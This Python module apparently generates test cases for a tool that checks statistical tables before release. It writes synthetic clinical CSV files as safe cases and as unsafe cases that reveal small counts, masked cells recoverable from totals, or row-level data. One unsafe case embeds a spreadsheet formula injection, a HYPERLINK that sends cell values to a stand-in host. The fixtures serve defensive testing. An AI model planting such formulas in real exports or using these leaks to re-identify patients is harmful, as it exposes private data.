"""Delimited tables: what a script writes last, before anyone opens it."""

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs11.numbers import baseline, life, p_value, ratios, split
from tests.airlock.outputs11.tools import lines, table

SEX = {"Men": 1054, "Women": 788}


def write(shelf: Shelf) -> None:
    """Writes the cases of this file."""
    _safe(shelf)
    _unsafe(shelf)


def _safe(shelf: Shelf) -> None:
    path = shelf.safe(
        "cardiology/table1_by_sex.csv",
        "NYHA classes, p-values and quartiles are small numbers",
        "Baseline characteristics at the first heart failure admission, by sex.",
        "1,842 adults with a first admission for heart failure, 2017-2022",
    )
    rows = baseline(
        SEX,
        [
            ("Age, years, median [Q1-Q3]", ["73 [64-81]", "79 [71-86]"], "<0.001"),
            ("LVEF, %, mean (SD)", ["36.2 (11.8)", "45.9 (12.6)"], "<0.001"),
            ("NYHA class", {"II": [391, 274], "III": [498, 371], "IV": None}, "0.31"),
            ("Hypertension", [688, 571], "0.002"),
            ("Diabetes", [371, 242], "0.046"),
            ("Atrial fibrillation", [402, 318], "0.34"),
            ("Chronic kidney disease, stage 3 or more", [377, 309], "0.12"),
            ("Pacemaker", [89, 41], "0.008"),
            ("Pregnancy-associated cardiomyopathy", ["not applicable", "14 (1.8)"], ""),
            ("Beta blocker at discharge", [871, 622], "0.05"),
            ("SGLT2 inhibitor at discharge", [214, 131], "0.043"),
            ("Length of stay, days, median [Q1-Q3]", ["8 [5-12]", "8 [6-13]"], "0.09"),
        ],
    )
    table(path, rows)

    path = shelf.safe(
        "nephrology/aki_models.csv",
        "p-values, degrees of freedom of terms and a count of centres",
        "Odds ratios of acute kidney injury after cardiac surgery; two nested logistic models.",
        "3,406 adults operated on in 7 centres, 512 with acute kidney injury",
    )
    terms = {
        "Age (per 10 years)": (0.214, 0.041),
        "Female sex": (-0.092, 0.098),
        "Baseline eGFR (per 10 mL/min)": (-0.188, 0.024),
        "Diabetes": (0.301, 0.102),
        "Combined surgery": (0.522, 0.111),
        "Bypass time (per 30 min)": (0.247, 0.039),
        "Emergency": (0.745, 0.143),
        "Contrast within 3 days": (0.118, 0.107),
    }
    one, two = ratios({k: terms[k] for k in list(terms)[:4]}), ratios(terms)
    rows = [["model", *one[0]], *[["1", *r] for r in one[1:]], *[["2", *r] for r in two[1:]]]
    rows += [["2", "AUC (10-fold)", "0.76", "0.74-0.78", ""], ["2", "Hosmer-Lemeshow chi2, 8 df", "7.9", "", "0.443"]]
    rows += [["2", "Random effect of centre (7 centres), SD", "0.21", "", "0.018"]]
    table(path, rows)

    path = shelf.safe(
        "urgences/passages_par_heure.csv",
        "les heures de 0 à 23 et les jours de 1 à 7 sont des petits nombres",
        "Nombre de passages aux urgences adultes selon l'heure d'arrivée, semaine et week-end, année 2023.",
        "passages aux urgences adultes en 2023",
    )
    stream = shelf.random("hours")
    rows = [["heure", "semaine", "week_end", "part_semaine_%"]]
    week = [stream.randint(620, 2300) for _ in range(24)]
    for hour, n in enumerate(week):
        rows.append(
            [str(hour), str(n), str(stream.randint(260, 910)), f"{100 * n / sum(week):.1f}".replace(".", ",")]
        )
    table(path, rows, ";", "latin-1")

    path = shelf.safe(
        "microbiology/antibiogram_2023.csv",
        "minimum inhibitory breakpoints and small concentrations",
        "Cumulative antibiogram: first isolate per patient, susceptible and resistant isolates by species and drug.",
        "2,214 adults with at least one positive blood or urine culture in 2023",
    )
    rows = [
        ["species", "antibiotic", "eucast_breakpoint_mg_L", "isolates", "susceptible", "resistant", "susceptible_pct"]
    ]
    for species, n in {"E. coli": 1180, "K. pneumoniae": 402, "P. mirabilis": 251, "E. faecalis": 381}.items():
        for drug, breakpoint_ in {
            "amoxicillin": 8,
            "ciprofloxacin": 0.25,
            "cotrimoxazole": 2,
            "gentamicin": 2,
        }.items():
            resistant = stream.randint(n // 10, n // 2)
            s = n - resistant
            rows.append([species, drug, str(breakpoint_), str(n), str(s), str(resistant), f"{100 * s / n:.1f}"])
    table(path, rows)

    path = shelf.safe(
        "oncology/os_life_table.csv",
        "yearly steps of survival and numbers at risk",
        "Life table of overall survival by line of treatment, in yearly intervals.",
        "1,390 adults with metastatic colorectal cancer",
    )
    rows = [["arm", "year", "at_risk", "deaths", "censored", "survival"]]
    for arm, n, dead, lost in (
        ("FOLFIRI-bev", 742, (161, 148, 92, 51, 24), (12, 21, 33, 40, 38)),
        ("FOLFOX-bev", 648, (170, 139, 81, 37, 19), (11, 16, 30, 41, 29)),
    ):
        for year, (risk, d, c, s) in enumerate(life(n, dead, lost)):
            rows.append([arm, str(year), str(risk), str(d or ""), str(c or ""), f"{s:.3f}"])
    table(path, rows, "\t")

    path = shelf.safe(
        "imaging/cv_metrics.csv",
        "folds 1 to 10, epochs and small errors",
        "Ten-fold cross-validation of a chest X-ray classifier: metrics of each fold.",
        "12,480 chest radiographs of 9,802 adults",
    )
    rows = [["fold", "n_val", "best_epoch", "auc", "brier", "sensitivity", "specificity", "ece"]]
    for fold in range(1, 11):
        a = 0.9 + stream.random() / 40
        rows.append(
            [
                str(fold),
                "1248",
                str(stream.randint(6, 19)),
                f"{a:.3f}",
                f"{0.09 - a / 50:.4f}",
                f"{a - 0.07:.3f}",
                f"{a - 0.05:.3f}",
                f"{stream.random() / 40:.4f}",
            ]
        )
    table(path, rows)

    path = shelf.safe(
        "dim/top_diagnostics.csv",
        "rangs 1 à 15, chapitres et codes CIM-10 avec chiffres",
        "Quinze premiers diagnostics principaux des séjours de gériatrie et leur rang, 2021 et 2022.",
        "6 730 séjours de 5 102 patients de gériatrie",
    )
    codes = ["I50.1", "J18.9", "N39.0", "S72.0", "A41.9", "F05.1", "R29.6", "I63.9", "J69.0", "G30.1", "E86", "K92.2", "N17.9", "J44.1", "R54"]
    first = sorted(split(stream, 2610, 15, 40), reverse=True)
    second = split(stream, 2744, 15, 40)
    order = sorted(second, reverse=True)
    rows = [["rang_2021", "code", "sejours_2021", "rang_2022", "sejours_2022"]]
    rows += [
        [str(at + 1), c, str(a), str(order.index(b) + 1), str(b)]
        for at, (c, a, b) in enumerate(zip(codes, first, second, strict=True))
    ]
    table(path, rows, ";")

    path = shelf.safe(
        "public_health/screening_by_district_masked.csv",
        "cells below 10 are masked, and two in each row and column that has one",
        "Uptake of colorectal screening by district and age band; counts below 10 are masked with secondary masking and no totals are given.",
        "adults aged 50 to 74 who were invited through the hospital",
    )
    rows = [["district", "50-54", "55-59", "60-64", "65-69", "70-74"]]
    for name in ("North", "Harbour", "Old town", "Mills", "Station", "Hills", "Airport"):
        rows.append([name, *[str(stream.randint(38, 260)) for _ in range(5)]])
    for down, across in ((2, 1), (2, 4), (5, 1), (5, 4)):
        rows[down][across] = "masked"
    table(path, rows)


def _unsafe(shelf: Shelf) -> None:
    stream = shelf.random("csv")
    path = shelf.unsafe(
        "lung/egfr_by_site.csv", "small cell", "L858R, adrenal: 4",
        "Site of first metastasis by EGFR variant, non-small-cell lung cancer.",
        "1,022 adults with EGFR-mutated lung cancer",
    )  # fmt: skip
    rows = [["variant", "bone", "brain", "liver", "adrenal", "pleura"]]
    rows += [
        ["exon 19 deletion", 171, 98, 61, 27, 84],
        ["L858R", 133, 88, 47, 4, 71],
        ["exon 20 insertion", 34, 22, 19, 11, 26],
        ["other", 41, 30, 18, 12, 25],
    ]
    table(path, rows)

    path = shelf.unsafe(
        "transplant/rejet_par_greffon.csv", "zero of a real group", "donneur vivant, perte du greffon à 1 an : 0",
        "Rejet, perte du greffon et décès à un an selon le type de donneur.",
        "611 adultes greffés du rein entre 2016 et 2021",
    )  # fmt: skip
    table(
        path,
        [
            ["donneur", "greffes", "rejet_1an", "perte_greffon_1an", "infection_CMV"],
            ["décédé, critères standards", 298, 41, 17, 66],
            ["décédé, critères élargis", 217, 38, 21, 59],
            ["vivant", 96, 13, 0, 19],
        ],
        ";",
    )

    path = shelf.unsafe(
        "obstetrics/mode_of_birth_masked.csv", "totals give the masked cell back", "breech, forceps: 41-(...) = 5",
        "Mode of birth by presentation; counts below ten were replaced by <10.",
        "2,906 women with a singleton birth",
    )  # fmt: skip
    rows = [["presentation", "spontaneous", "vacuum", "forceps", "planned caesarean", "emergency caesarean", "total"]]
    rows += [
        ["cephalic, anterior", 1620, 240, 131, 205, 214, 2410],
        ["cephalic, posterior", 97, 61, 44, 26, 102, 330],
        ["breech", 25, "<10", 14, 88, 34, 166],
        ["total", 1742, 306, 189, 319, 350, 2906],
    ]
    table(path, rows)

    path = shelf.unsafe(
        "rheumatology/flare_percentages.csv", "percentages of a small group", "tocilizumab n=61, serious infection 3.3% = 2",
        "Share of patients with each event in the first year, by biologic drug.",
        "842 adults with rheumatoid arthritis who began a biologic drug",
    )  # fmt: skip
    table(
        path,
        [
            ["drug", "n", "flare_pct", "switch_pct", "serious_infection_pct"],
            ["adalimumab", 311, 28.3, 21.2, 5.1],
            ["etanercept", 274, 30.7, 19.3, 4.4],
            ["abatacept", 196, 26.5, 17.3, 7.7],
            ["tocilizumab", 61, 31.1, 18.0, 3.3],
        ],
    )

    path = shelf.unsafe(
        "endocrinology/hba1c_by_region.csv", "SD of one", "outside the country: SD empty, n=1",
        "Mean HbA1c and its standard deviation by region of residence.",
        "1,566 adults with type 1 diabetes",
    )  # fmt: skip
    rows = [["region", "hba1c_mean", "hba1c_sd", "bmi_mean", "bmi_sd"]]
    rows += [
        [
            r,
            f"{7.4 + stream.random():.2f}",
            f"{1.1 + stream.random() / 3:.2f}",
            f"{25 + stream.random():.1f}",
            f"{4 + stream.random():.1f}",
        ]
        for r in ("Brittany", "Normandy", "Loire", "Centre", "Paris area", "North")
    ]
    rows.insert(5, ["Overseas", "9.10", "NA", "31.2", "NA"])
    table(path, rows)

    path = shelf.unsafe(
        "icu/describe_labs.csv", "minimum and maximum", "columns min and max",
        "Descriptive statistics of the laboratory values at admission to intensive care, from pandas describe().",
        "1,218 adults admitted to intensive care",
    )  # fmt: skip
    rows = [
        ["", "lactate", "creatinine", "platelets", "bilirubin"],
        ["count", 1218, 1218, 1218, 1218],
        ["mean", 2.91, 141.2, 207.4, 24.8],
        ["std", 2.4, 118.3, 104.1, 38.2],
    ]
    rows += [
        ["min", 0.41, 22, 3, 2],
        ["25%", 1.3, 71, 134, 8],
        ["50%", 2.1, 102, 196, 13],
        ["75%", 3.6, 166, 264, 24],
        ["max", 23.7, 1412, 1031, 611],
    ]
    table(path, rows)

    path = shelf.unsafe(
        "psychiatry/profiles_wide.csv", "row-level data, turned on its side", "each column P01..P36 is a patient",
        "Clinical profile grid used for the cluster analysis.",
        "36 adults with a first psychotic episode out of 412 screened",
    )  # fmt: skip
    rows = [["item", *[f"P{at:02d}" for at in range(1, 37)]]]
    for item, low, high in (
        ("age", 18, 44),
        ("PANSS_pos", 11, 36),
        ("PANSS_neg", 9, 38),
        ("GAF", 22, 68),
        ("DUP_weeks", 1, 140),
        ("CDSS", 0, 19),
    ):
        rows.append([item, *[str(stream.randint(low, high)) for _ in range(36)]])
    table(path, rows)

    path = shelf.unsafe(
        "geriatrics/ages_pyramide.csv", "single ages from 90", "lignes 90 à 95",
        "Effectifs par année d'âge et sexe à l'admission en soins de suite.",
        "5 388 patients de 75 ans et plus",
    )  # fmt: skip
    rows = [["age", "hommes", "femmes"]] + [
        [age, 14 + (96 - age) * stream.randint(3, 9), 31 + (96 - age) * stream.randint(5, 12)]
        for age in range(75, 96)
    ]
    table(path, rows, ";", before="# effectifs inférieurs à 10 absents\n")

    path = shelf.unsafe(
        "emergency/triage_summary.csv", "formula injection", "a note begins with =HYPERLINK",
        "Waiting time and admission by triage level.",
        "31,904 visits to the emergency department",
    )  # fmt: skip
    rows = [
        ["triage", "visits", "median_wait_min", "admitted_pct", "note"],
        ["1", 812, 4, 88.1, ""],
        ["2", 5210, 14, 51.6, ""],
    ]
    rows += [
        ["3", 14870, 47, 22.3, '=HYPERLINK("http://stats.example.net/c?d="&B2&B3,"method")'],
        ["4", 8904, 71, 7.4, ""],
        ["5", 2108, 66, 2.2, ""],
    ]
    table(path, rows)

    path = shelf.unsafe(
        "surgery/bariatric_rates.csv", "rate whose numerator is small", "sleeve re-do: 16.7 per 1,000 of 240 = 4 deaths",
        "Deaths within 90 days per 1,000 operations, by procedure.",
        "5,140 adults who had bariatric surgery",
    )  # fmt: skip
    rows = [
        ["procedure", "operations", "leak_per_1000", "death_90d_per_1000", "p_vs_bypass"],
        ["gastric bypass", 2400, 21.7, 5.8, ""],
        ["sleeve", 2500, 18.0, 4.4, p_value(0.7)],
        ["revision", 240, 62.5, 16.7, p_value(1.9)],
    ]
    path.write_text(lines(rows), encoding="utf-8-sig")
